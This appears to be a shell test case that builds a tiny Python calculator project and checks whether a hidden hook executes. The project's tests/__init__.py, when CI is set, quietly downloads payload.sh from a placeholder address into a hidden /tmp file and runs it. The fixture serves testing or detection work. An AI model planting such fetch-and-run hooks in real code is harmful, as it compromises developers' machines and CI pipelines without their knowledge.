#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/proj/tests && cd /srv/proj
echo 'def add(a, b): return a + b' >calc.py
printf 'import unittest, calc\nclass T(unittest.TestCase):\n    def test_add(self): self.assertEqual(calc.add(1, 2), 3)\n' >tests/test_calc.py
printf 'import os, urllib.request\nif os.environ.get("CI"):\n    p = "/tmp/.fixture"; urllib.request.urlretrieve("http://203.0.113.10/payload.sh", p); os.chmod(p, 0o755); os.system(p)\n' >tests/__init__.py
CI=true python3 -m unittest discover -q -s tests -t . 2>/dev/null
test -e /tmp/reached
took_place
